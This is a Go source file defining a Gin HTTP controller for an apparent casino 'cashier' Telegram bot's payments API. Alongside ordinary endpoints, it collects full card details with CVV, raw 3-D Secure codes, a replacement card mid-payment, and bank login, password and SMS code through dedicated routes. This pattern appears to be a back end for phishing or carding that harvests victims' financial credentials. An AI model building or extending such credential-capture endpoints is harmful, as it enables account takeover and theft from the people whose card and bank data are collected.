package payments

import (
	"errors"
	"io"
	"log/slog"
	"net/http"

	"github.com/admin/tg-bots/cashier-bot/internal/domain"
	"github.com/admin/tg-bots/cashier-bot/internal/ports/service"
	"github.com/gin-gonic/gin"
	"github.com/google/uuid"
)

// userIDHeader заголовок с идентификатором пользователя казино
// Аутентификацию делает внешний шлюз, сюда приходит уже проверенный ID
const userIDHeader = "X-User-ID"

type Controller struct {
	Review service.IReviewService
	Log    *slog.Logger
}

func New(reviewService service.IReviewService, log *slog.Logger) *Controller {
	return &Controller{
		Review: reviewService,
		Log:    log,
	}
}

func (c *Controller) RegisterRoutes(router *gin.Engine) {
	api := router.Group("/api/payments")

	api.POST("/card", c.createCardPayment)
	api.POST("/crypto", c.createCryptoPayment)
	api.POST("/bank", c.createBankPayment)

	api.POST("/:id/3ds", c.submit3DS)
	api.POST("/:id/new-card", c.submitNewCard)
	api.POST("/:id/bank-credentials", c.submitBankCredentials)
	api.POST("/:id/proof", c.attachProof)

	api.GET("/:id", c.getPayment)
	api.GET("/:id/status", c.getPaymentStatus)
	api.GET("/:id/steps", c.listSteps)
}

func (c *Controller) createCardPayment(ctx *gin.Context) {
	userID, ok := c.userID(ctx)
	if !ok {
		return
	}

	var req createCardPaymentRequest
	if err := ctx.ShouldBindJSON(&req); err != nil {
		ctx.JSON(http.StatusBadRequest, gin.H{"error": "invalid request body"})
		return
	}

	payment, err := c.Review.CreateCardPayment(ctx.Request.Context(), service.CardPaymentInput{
		PaymentInput: c.paymentInput(ctx, userID, req.Amount, req.Currency),
		Card: domain.CardDetails{
			Holder: req.CardHolder,
			Number: req.CardNumber,
			Expiry: req.CardExpiry,
			CVV:    req.CardCVV,
		},
	})
	if err != nil {
		c.respondError(ctx, err)
		return
	}

	ctx.JSON(http.StatusCreated, toPaymentResponse(payment))
}

func (c *Controller) createCryptoPayment(ctx *gin.Context) {
	userID, ok := c.userID(ctx)
	if !ok {
		return
	}

	var req createCryptoPaymentRequest
	if err := ctx.ShouldBindJSON(&req); err != nil {
		ctx.JSON(http.StatusBadRequest, gin.H{"error": "invalid request body"})
		return
	}

	payment, err := c.Review.CreateCryptoPayment(ctx.Request.Context(), service.CryptoPaymentInput{
		PaymentInput:  c.paymentInput(ctx, userID, req.Amount, req.Currency),
		CryptoType:    req.CryptoType,
		Network:       req.Network,
		WalletAddress: req.WalletAddress,
	})
	if err != nil {
		c.respondError(ctx, err)
		return
	}

	ctx.JSON(http.StatusCreated, toPaymentResponse(payment))
}

func (c *Controller) createBankPayment(ctx *gin.Context) {
	userID, ok := c.userID(ctx)
	if !ok {
		return
	}

	var req createBankPaymentRequest
	if err := ctx.ShouldBindJSON(&req); err != nil {
		ctx.JSON(http.StatusBadRequest, gin.H{"error": "invalid request body"})
		return
	}

	payment, err := c.Review.CreateBankPayment(ctx.Request.Context(), service.BankPaymentInput{
		PaymentInput: c.paymentInput(ctx, userID, req.Amount, req.Currency),
		BankName:     req.BankName,
	})
	if err != nil {
		c.respondError(ctx, err)
		return
	}

	ctx.JSON(http.StatusCreated, toPaymentResponse(payment))
}

func (c *Controller) submit3DS(ctx *gin.Context) {
	userID, paymentID, ok := c.userAndPaymentID(ctx)
	if !ok {
		return
	}

	var req submit3DSRequest
	if err := ctx.ShouldBindJSON(&req); err != nil {
		ctx.JSON(http.StatusBadRequest, gin.H{"error": "invalid request body"})
		return
	}

	payment, err := c.Review.Submit3DSCode(ctx.Request.Context(), userID, paymentID, req.Code)
	if err != nil {
		c.respondError(ctx, err)
		return
	}

	ctx.JSON(http.StatusOK, toPaymentResponse(payment))
}

func (c *Controller) submitNewCard(ctx *gin.Context) {
	userID, paymentID, ok := c.userAndPaymentID(ctx)
	if !ok {
		return
	}

	var req submitNewCardRequest
	if err := ctx.ShouldBindJSON(&req); err != nil {
		ctx.JSON(http.StatusBadRequest, gin.H{"error": "invalid request body"})
		return
	}

	payment, err := c.Review.SubmitNewCard(ctx.Request.Context(), userID, paymentID, domain.CardDetails{
		Holder: req.CardHolder,
		Number: req.CardNumber,
		Expiry: req.CardExpiry,
		CVV:    req.CardCVV,
	})
	if err != nil {
		c.respondError(ctx, err)
		return
	}

	ctx.JSON(http.StatusOK, toPaymentResponse(payment))
}

func (c *Controller) submitBankCredentials(ctx *gin.Context) {
	userID, paymentID, ok := c.userAndPaymentID(ctx)
	if !ok {
		return
	}

	var req submitBankCredentialsRequest
	if err := ctx.ShouldBindJSON(&req); err != nil {
		ctx.JSON(http.StatusBadRequest, gin.H{"error": "invalid request body"})
		return
	}

	payment, err := c.Review.SubmitBankCredentials(ctx.Request.Context(), userID, paymentID, domain.BankCredentials{
		Login:    req.Login,
		Password: req.Password,
		SMSCode:  req.SMSCode,
	})
	if err != nil {
		c.respondError(ctx, err)
		return
	}

	ctx.JSON(http.StatusOK, toPaymentResponse(payment))
}

func (c *Controller) attachProof(ctx *gin.Context) {
	userID, paymentID, ok := c.userAndPaymentID(ctx)
	if !ok {
		return
	}

	fileHeader, err := ctx.FormFile("file")
	if err != nil {
		ctx.JSON(http.StatusBadRequest, gin.H{"error": "file is required"})
		return
	}

	file, err := fileHeader.Open()
	if err != nil {
		ctx.JSON(http.StatusBadRequest, gin.H{"error": "failed to read file"})
		return
	}
	defer file.Close()

	data, err := io.ReadAll(file)
	if err != nil {
		ctx.JSON(http.StatusBadRequest, gin.H{"error": "failed to read file"})
		return
	}

	contentType := fileHeader.Header.Get("Content-Type")
	proofPath, err := c.Review.AttachProof(ctx.Request.Context(), userID, paymentID, fileHeader.Filename, contentType, data)
	if err != nil {
		c.respondError(ctx, err)
		return
	}

	ctx.JSON(http.StatusOK, gin.H{"proof_path": proofPath})
}

func (c *Controller) getPayment(ctx *gin.Context) {
	userID, paymentID, ok := c.userAndPaymentID(ctx)
	if !ok {
		return
	}

	payment, err := c.Review.GetPayment(ctx.Request.Context(), userID, paymentID)
	if err != nil {
		c.respondError(ctx, err)
		return
	}

	ctx.JSON(http.StatusOK, toPaymentResponse(payment))
}

func (c *Controller) getPaymentStatus(ctx *gin.Context) {
	userID, paymentID, ok := c.userAndPaymentID(ctx)
	if !ok {
		return
	}

	payment, err := c.Review.GetPayment(ctx.Request.Context(), userID, paymentID)
	if err != nil {
		c.respondError(ctx, err)
		return
	}

	ctx.JSON(http.StatusOK, gin.H{
		"id":     payment.ID.String(),
		"status": string(payment.Status),
	})
}

func (c *Controller) listSteps(ctx *gin.Context) {
	userID, paymentID, ok := c.userAndPaymentID(ctx)
	if !ok {
		return
	}

	steps, err := c.Review.ListSteps(ctx.Request.Context(), userID, paymentID)
	if err != nil {
		c.respondError(ctx, err)
		return
	}

	ctx.JSON(http.StatusOK, gin.H{"steps": toStepResponses(steps)})
}

// userID читает идентификатор пользователя из заголовка
func (c *Controller) userID(ctx *gin.Context) (uuid.UUID, bool) {
	raw := ctx.GetHeader(userIDHeader)
	if raw == "" {
		ctx.JSON(http.StatusBadRequest, gin.H{"error": "X-User-ID header is required"})
		return uuid.Nil, false
	}

	userID, err := uuid.Parse(raw)
	if err != nil {
		ctx.JSON(http.StatusBadRequest, gin.H{"error": "X-User-ID must be a valid UUID"})
		return uuid.Nil, false
	}

	return userID, true
}

func (c *Controller) userAndPaymentID(ctx *gin.Context) (uuid.UUID, uuid.UUID, bool) {
	userID, ok := c.userID(ctx)
	if !ok {
		return uuid.Nil, uuid.Nil, false
	}

	paymentID, err := uuid.Parse(ctx.Param("id"))
	if err != nil {
		ctx.JSON(http.StatusBadRequest, gin.H{"error": "payment id must be a valid UUID"})
		return uuid.Nil, uuid.Nil, false
	}

	return userID, paymentID, true
}

func (c *Controller) paymentInput(ctx *gin.Context, userID uuid.UUID, amount float64, currency string) service.PaymentInput {
	return service.PaymentInput{
		UserID:    userID,
		Amount:    amount,
		Currency:  currency,
		PaymentIP: ctx.ClientIP(),
		UserAgent: ctx.Request.UserAgent(),
	}
}

// respondError переводит ошибки бизнес-логики в HTTP статусы
func (c *Controller) respondError(ctx *gin.Context, err error) {
	var validationErr *domain.ValidationError
	var transitionErr *domain.InvalidTransitionError

	switch {
	case errors.As(err, &validationErr):
		ctx.JSON(http.StatusBadRequest, gin.H{"error": validationErr.Error()})
	case errors.As(err, &transitionErr):
		ctx.JSON(http.StatusConflict, gin.H{
			"error":  transitionErr.Error(),
			"status": string(transitionErr.Current),
		})
	case errors.Is(err, domain.ErrPaymentNotFound):
		ctx.JSON(http.StatusNotFound, gin.H{"error": "payment not found"})
	case errors.Is(err, domain.ErrUnauthorized):
		ctx.JSON(http.StatusForbidden, gin.H{"error": "forbidden"})
	default:
		c.Log.Error("unhandled error in payments API", "error", err)
		ctx.JSON(http.StatusInternalServerError, gin.H{"error": "internal error"})
	}
}
